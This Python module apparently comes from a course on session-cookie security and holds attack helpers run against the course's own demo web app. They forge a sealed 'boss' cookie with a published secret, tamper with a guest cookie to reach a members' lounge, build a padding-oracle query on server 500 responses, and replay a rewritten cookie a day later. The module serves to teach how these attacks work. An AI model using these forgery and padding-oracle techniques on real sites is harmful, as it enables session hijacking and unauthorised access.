"""The attacks of the notebooks: each works on one stage and fails on the next.

An attack over HTTP gets the server's `url`, and knows only what any visitor knows. It returns
what it got, or something false if it got nothing.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from datetime import timedelta
from typing import Any

import requests

from ...app import PAGE_SECRET
from ...cookie import derive_keys, seal, to_base64, unseal
from ...errors import BadCookie
from ..clock import Clock
from ..http.visitor import PATIENCE, Visitor
from ..views.markup import status


@dataclass(frozen=True)
class Outcome:
    """Whether an attack worked, and what the attacker saw; true if it worked."""

    worked: bool
    story: str

    def __bool__(self) -> bool:
        return self.worked

    def __repr__(self) -> str:
        return f"attack {'succeeded' if self.worked else 'refused'}: {self.story}"

    def _repr_html_(self) -> str:
        return status("!" if self.worked else "✓", repr(self))


def open_with_published_secret(value: str) -> dict[str, Any] | None:
    """Open a cookie with the secret from the course page; return None if it does not open."""
    try:
        return unseal(value, derive_keys(PAGE_SECRET)).content
    except BadCookie:
        return None


def enter_with_published_secret(url: str) -> Outcome:
    """Seal a cookie for a user that does not exist, and request the dashboard with it."""
    boss = {"user": {"userName": "boss", "email": "boss@example.com"}}
    # The forger chooses the lifetime.
    forged = seal(boss, derive_keys(PAGE_SECRET), duration=100 * 365 * 24 * 3_600_000)
    answer = _ask(url, "/dashboard", forged)
    if "Hello boss" in answer.text:
        return Outcome(True, "GET /dashboard with our own cookie shows 'Hello boss'")
    return Outcome(False, f"GET /dashboard with our own cookie {_seen(answer)}")


#: What a guest's session in the lounge of `weak.add_lounge` is, and what an attacker wants.
GUEST, MEMBER = b'session={"vip":0}', b'session={"vip":1}'


def enter_lounge(url: str, aim: Callable[[str, bytes, bytes], str]) -> Outcome:
    """Visit the lounge as a guest, change the cookie with `aim`, and ask to be let in."""
    client = Visitor()
    _ask(url, "/visit", client=client)
    forged = aim(client.cookies["session"], GUEST, MEMBER)
    answer = _ask(url, "/lounge", forged)
    return Outcome(answer.ok, f"with the changed cookie, GET /lounge {_seen(answer)}")


def padding_oracle(url: str, value: str) -> Callable[[bytes, bytes], bool]:
    """Return a question to a server: is the padding of `block` right, after XOR with `iv`?

    It sends ``good(iv, block)`` in place of the IV and the ciphertext of `value`, a cookie's
    value, and the cookie's other fields unchanged. The answer is no if the server answers 500.
    """
    _, _, *rest = value.split(".")
    client = Visitor()

    def good(iv: bytes, block: bytes) -> bool:
        cookie = ".".join([to_base64(iv), to_base64(block), *rest])
        headers = {"Cookie": f"session={cookie}"}
        answer = client.get(f"{url}/session-test-read", headers=headers, timeout=PATIENCE)
        return answer.status_code != 500

    return good


def return_tomorrow(url: str, clock: Clock, change: Callable[[str], str]) -> Outcome:
    """Get a cookie, let `change` rewrite it, and come back a day later: does it still open?"""
    client = Visitor()
    _ask(url, "/session-test-add?message=still here", client=client)
    value = change(client.cookies["session"])
    clock.advance(timedelta(days=1))
    return _outcome(_read(url, value), "still here", "a day later")


def _ask(
    url: str, path: str, value: str | None = None, *, client: requests.Session | None = None
) -> requests.Response:
    headers = {} if value is None else {"Cookie": f"session={value}"}
    return (client or Visitor()).get(f"{url}{path}", headers=headers, timeout=PATIENCE)


def _seen(answer: requests.Response) -> str:
    """Return a description of a response, or of the redirect before it."""
    if answer.history:
        return f"redirects to {answer.history[-1].headers['Location']}"
    return f"answers {answer.status_code}"


def _read(url: str, value: str) -> requests.Response:
    """Let the server read the message in a session."""
    return _ask(url, "/session-test-read", value)


def _outcome(answer: requests.Response, wanted: str, how: str) -> Outcome:
    message = answer.text.partition("session message: ")[2]
    if not message:
        seen = f"answers {answer.status_code}"
    elif message == "undefined":  # the app prints this if the session has no message
        seen = "reads no message"
    else:
        seen = f"reads {message!r}"
    return Outcome(message == wanted, f"{how}, the server {seen}")
